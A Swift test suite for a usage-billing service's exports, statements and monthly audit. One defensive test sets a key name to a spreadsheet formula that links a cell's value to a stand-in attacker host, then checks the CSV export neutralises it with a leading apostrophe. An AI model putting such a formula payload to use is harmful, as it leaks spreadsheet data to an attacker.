import Foundation
import TallyCore
import TallyPostgres
import TallyStore
import TallyTestSupport
import Testing

/// Collects an export's output.
final class ExportOutput: @unchecked Sendable {
    // Written only by the export's pool thread, read after the export returned.
    var bytes: [UInt8] = []
    var chunks: [Int] = []

    static func of(_ export: UsageExport, on pool: PostgresPool, exporter: UsageExporter? = nil) async throws -> (
        text: String, summary: ExportSummary, chunks: [Int]
    ) {
        let output = ExportOutput()
        let summary = try await (exporter ?? UsageExporter(pool: pool)).export(export) { chunk in
            output.bytes.append(contentsOf: chunk)
            output.chunks.append(chunk.count)
        }
        return (String(decoding: output.bytes, as: UTF8.self), summary, output.chunks)
    }
}

@Suite("exports, statements, audit by month")
struct ExportTests {
    static let august = UsageMonth("2026-08")!, september = UsageMonth("2026-09")!

    /// A fresh database with two generated months.
    static func fixture() async throws -> (TestDatabase, UsageFixture) {
        let db = try await TestDatabase.create("exports")
        let fixture = try await UsageFixture.load(into: db, months: [august, september], linesPerMonth: 1500)
        return (db, fixture)
    }

    /// One fixture for the tests that only read.
    static let shared = Task { try await fixture() }

    static let byLists: [[ExportDimension]] = [
        [.user], [.token], [.model], [.group], [.day], [.user, .model], [.day, .group, .token],
    ]

    @Test("every by: the CSV parses back (Python's csv) to the independently computed sums, with a header, sorted")
    func csvMatchesSums() async throws {
        let (db, fixture) = try await Self.shared.value
        for by in Self.byLists {
            for month in [Self.august, Self.september] {
                let export = try UsageExport(month: month, by: by, format: .csv)
                let (text, summary, _) = try await ExportOutput.of(export, on: db.pool)
                let rows = try CSVParser.parse(text)
                let expected = fixture.expectedRows(month: month, by: by)
                #expect(rows.first == RollupColumns.header(by), "\(by)")
                #expect(summary.rows == expected.count)
                #expect(UsageFixture.mismatch(Array(rows.dropFirst()), expected) == nil, "\(month) by \(by)")
            }
        }
        // The tricky names really were quoted, and still parse back.
        let byUser = try await ExportOutput.of(
            try UsageExport(month: Self.august, by: [.user, .token], format: .csv), on: db.pool
        ).text
        #expect(byUser.contains(#""o'brien, ""ann""""#))
        #expect(byUser.contains("\"team, \"\"blue\"\"\nkey\""))
    }

    /// Found by a review: a key name is the user's to choose, and finance opens the CSV in a
    /// spreadsheet.
    @Test("a user's or key's name a spreadsheet would run as a formula starts with ' in the CSV, as is in JSON Lines")
    func formulaNames() async throws {
        let (db, fixture) = try await Self.fixture()
        let user = try #require(fixture.usernames.keys.min())
        let formula = #"=HYPERLINK("https://evil.example/?"&B2,"open")"#
        try await db.pool.withConnection { connection in
            try connection.query("UPDATE users SET username = '@risky' WHERE id = $1", [user])
            try connection.query("UPDATE tokens SET name = $2 WHERE user_id = $1", [user, formula])
        }
        let csv = try await ExportOutput.of(
            try UsageExport(month: Self.august, by: [.user, .token], format: .csv, userID: user), on: db.pool
        ).text
        let rows = Array(try CSVParser.parse(csv).dropFirst())
        #expect(!rows.isEmpty)
        #expect(rows.allSatisfy { $0[1] == "'@risky" && $0[3] == "'" + formula }, "\(rows)")
        let jsonl = try await ExportOutput.of(
            try UsageExport(month: Self.august, by: [.user, .token], format: .jsonl, userID: user), on: db.pool
        ).text
        #expect(jsonl.contains(#""username":"@risky""#))
        #expect(!jsonl.contains("'@risky"))
    }

    @Test("JSON Lines carry the same rows as CSV, one object per line, keys in column order, USD as exact text")
    func jsonLines() async throws {
        let (db, fixture) = try await Self.shared.value
        for by in Self.byLists {
            let text = try await ExportOutput.of(
                try UsageExport(month: Self.september, by: by, format: .jsonl), on: db.pool
            ).text
            let expected = fixture.expectedRows(month: Self.september, by: by)
            let rows = try JSONLinesExport.rows(text, by: by)
            #expect(UsageFixture.mismatch(rows, expected) == nil, "jsonl by \(by)")
        }
    }

    @Test("an empty month is a header only (CSV) and nothing (JSON Lines); a user filter keeps only that user")
    func emptyMonthAndUserFilter() async throws {
        let (db, fixture) = try await Self.shared.value
        let empty = try await ExportOutput.of(
            try UsageExport(month: UsageMonth("2026-03")!, by: [.user, .day], format: .csv), on: db.pool)
        #expect(empty.text == RollupColumns.header([.user, .day]).joined(separator: ",") + "\n")
        #expect(empty.summary.rows == 0)
        let emptyJSON = try await ExportOutput.of(
            try UsageExport(month: UsageMonth("2026-03")!, by: [.model], format: .jsonl), on: db.pool)
        #expect(emptyJSON.text.isEmpty)
        let user = try #require(fixture.usernames.first { $0.value == "synthetic-3" }?.key)
        let mine = try await ExportOutput.of(
            try UsageExport(month: Self.august, by: [.model], format: .csv, userID: user), on: db.pool)
        let mineRows = Array(try CSVParser.parse(mine.text).dropFirst())
        #expect(
            UsageFixture.mismatch(mineRows, fixture.expectedRows(month: Self.august, by: [.model], userID: user)) == nil
        )
    }

    @Test("by=day in another time zone shifts day boundaries over the UTC month's rows")
    func timeZoneDays() async throws {
        let (db, fixture) = try await Self.shared.value
        for zone in ["America/New_York", "Asia/Kolkata"] {
            let export = try UsageExport(month: Self.september, by: [.day, .model], format: .csv, timeZone: zone)
            let rows = try CSVParser.parse(try await ExportOutput.of(export, on: db.pool).text)
            let expected = fixture.expectedRows(
                month: Self.september, by: [.day, .model], timeZone: TimeZone(identifier: zone)!)
            #expect(UsageFixture.mismatch(Array(rows.dropFirst()), expected) == nil, "\(zone)")
            // New York's day of Sep 1 00:00 UTC is Aug 31: the first row is that day.
            if zone == "America/New_York" { #expect(rows[1][0] == "2026-08-31") }
        }
        await #expect(throws: StoreError.self) {
            try await UsageExporter(pool: db.pool).export(
                try UsageExport(month: Self.september, by: [.day], format: .csv, timeZone: "Mars/Olympus")
            ) { _ in }
        }
        #expect(throws: StoreError.self) {
            try UsageExport(month: Self.september, by: [.user], format: .csv, timeZone: "Asia/Kolkata")
        }
    }

    @Test("raw: every request row of the month and no other, as COPY CSV with a header, in chunks of 64 KiB")
    func rawRows() async throws {
        let (db, fixture) = try await Self.shared.value
        let raw = try await ExportOutput.of(.raw(month: Self.september), on: db.pool)
        let rows = try CSVParser.parse(raw.text)
        let header = rows[0]
        let september = fixture.lines.filter { UsageMonth(containing: $0.createdAt) == Self.september }
        #expect(rows.count - 1 == september.count)
        #expect(raw.summary.rows == september.count)
        // Chunks of 64 KiB and the row that crossed it; the last one holds the rest.
        #expect(raw.chunks.count > 2)
        #expect(
            raw.chunks.dropLast().allSatisfy { (UsageExporter.chunkSize..<UsageExporter.chunkSize + 4096).contains($0) }
        )
        #expect(raw.chunks.reduce(0, +) == raw.summary.bytes)
        let idColumn = try #require(header.firstIndex(of: "request_id")),
            quotaColumn = try #require(header.firstIndex(of: "quota"))
        #expect(Set(rows.dropFirst().map { $0[idColumn] }) == Set(september.map(\.requestID)))
        #expect(
            rows.dropFirst().reduce(Int64(0)) { $0 + Int64($1[quotaColumn])! } == september.reduce(0) { $0 + $1.quota })
        let userID = september[0].userID
        let mine = try CSVParser.parse(
            try await ExportOutput.of(.raw(month: Self.september, userID: userID), on: db.pool).text)
        #expect(mine.count - 1 == september.filter { $0.userID == userID }.count)
        await #expect(
            throws: StoreError.notFound(
                "the request rows of 2025-01 are not kept (dropped by retention, or never stored); exports by user, token, model, group or UTC day still cover the month"
            )
        ) {
            try await UsageExporter(pool: db.pool).export(.raw(month: UsageMonth("2025-01")!)) { _ in }
        }
    }

    @Test("a sink that fails cancels the COPY and the connection stays usable")
    func failingSink() async throws {
        let (db, _) = try await Self.shared.value
        struct Stop: Error {}
        let pool = PostgresPool(url: db.url, size: 1)
        await #expect(throws: Stop.self) {
            try await UsageExporter(pool: pool).export(.raw(month: Self.september)) { _ in throw Stop() }
        }
        let after = try await ExportOutput.of(try UsageExport(month: Self.august, by: [.model], format: .csv), on: pool)
        #expect(after.summary.rows == UsageFixture.models.count)
        await pool.close()
    }

    @Test(
        "statements reconcile: closing = opening + credits − charges, next opening = closing, charges = export = ledger"
    )
    func statementsReconcile() async throws {
        let (db, fixture) = try await Self.fixture()
        let users = fixture.usernames.keys.sorted()
        // Credits in the current month through the real paths, and an old refund (no API yet).
        let balances = BalanceRepository(pool: db.pool)
        _ = try await balances.topUp(
            userID: users[0], amount: 700_000, reason: "invoice 7\nsecond line", idempotencyKey: nil, by: .cli)
        try await db.pool.transaction { connection in
            try connection.query("UPDATE users SET quota = quota + 1234 WHERE id = $1", [users[1]])
            try connection.query(
                "INSERT INTO ledger (at, user_id, kind, amount, reason) VALUES ('2026-09-15T10:00:00Z', $1, 'refund', 1234, 'refund')",
                [users[1]])
        }
        let months = ["2026-07", "2026-08", "2026-09", "2026-10", UsageMonth(containing: Date()).description]
            .compactMap(UsageMonth.init)
        let repository = StatementRepository(pool: db.pool)
        for user in users {
            var previousClosing: Int64?
            for month in months {
                let statement = try await repository.statement(userID: user, month: month)
                #expect(
                    statement.closingBalance == statement.openingBalance + statement.totalCredits - statement.charges)
                if let previousClosing { #expect(statement.openingBalance == previousClosing, "\(user) \(month)") }
                previousClosing = statement.closingBalance
                // Charges: the ledger's = the rollups' per model = the generated rows' = the export's.
                #expect(statement.charges == fixture.quota(month: month, userID: user), "\(user) \(month)")
                #expect(statement.chargesByModel.reduce(0) { $0 + $1.quota } == statement.charges)
                let export = try await ExportOutput.of(
                    try UsageExport(month: month, by: [.user], format: .csv, userID: user), on: db.pool)
                let exported = try CSVParser.parse(export.text).dropFirst().reduce(Int64(0)) {
                    $0 + Int64($1[RollupColumns.header([.user]).firstIndex(of: "quota")!])!
                }
                #expect(exported == statement.charges)
                #expect(statement.totalCredits == statement.credits.reduce(0) { $0 + $1.amount })
            }
            let balance = try await db.scalar("SELECT quota FROM user_balances WHERE id = $1", [user])
            #expect(previousClosing == balance)
        }
        let september = try await repository.statement(userID: users[1], month: Self.september)
        #expect(september.creditsByKind.map(\.kind) == ["refund"])
        #expect(september.text.contains("Closing balance"))
        await #expect(throws: StoreError.notFound("user 987654 not found")) {
            try await repository.statement(userID: 987_654, month: Self.september)
        }
    }

    @Test("a batch across a month end: its charge is split per month of its requests")
    func chargesFollowRequestMonth() async throws {
        let (db, fixture) = try await Self.shared.value
        let crossing = try await db.scalar(
            """
            SELECT count(*) FROM (SELECT batch_id FROM ledger WHERE kind = 'charge' GROUP BY batch_id, user_id, token_id
                                  HAVING count(DISTINCT month) > 1) t
            """)
        #expect(crossing > 0, "the fixture stores a batch across the August/September boundary")
        for month in [Self.august, Self.september] {
            for user in fixture.usernames.keys {
                let charged = try await db.scalar(
                    "SELECT -sum(amount) FROM ledger WHERE kind = 'charge' AND user_id = $1 AND month = $2::date",
                    [user, month.firstDay])
                #expect(charged == fixture.quota(month: month, userID: user))
            }
        }
    }

    @Test("audit --month: clean on real data; finds a rollup that disagrees with the ledger and the request rows")
    func auditMonth() async throws {
        let (db, fixture) = try await Self.fixture()
        let auditor = Auditor(pool: db.pool)
        #expect(try await auditor.run().isEmpty)
        #expect(try await auditor.run(month: Self.august).isEmpty)
        #expect(try await auditor.run(month: Self.september).isEmpty)
        let user = fixture.lines[0].userID
        _ = try await db.pool.withConnection { connection in
            // By key, not ctid: on Citus a row's ctid means nothing outside its shard.
            try connection.query(
                """
                UPDATE usage_daily d SET quota = d.quota + 5
                FROM (SELECT day, token_id, model, "group", kind FROM usage_daily
                      WHERE user_id = $1 AND day >= '2026-08-01' AND day < '2026-09-01'
                      ORDER BY day, token_id, model, "group", kind LIMIT 1) o
                WHERE d.user_id = $1
                  AND (d.day, d.token_id, d.model, d."group", d.kind) = (o.day, o.token_id, o.model, o."group", o.kind)
                """, [user])
        }
        let problems = try await auditor.run(month: Self.august)
        #expect(problems.count == 1)
        #expect(problems.first?.userID == user)
        #expect(problems.first?.problem.contains("ledger charges") == true)
        #expect(problems.first?.problem.contains("request rows") == true)
        #expect(try await auditor.run(month: Self.september).isEmpty)
        #expect(try await auditor.run().contains { $0.userID == user && $0.problem.contains("2026-08: usage rollups") })
    }
}
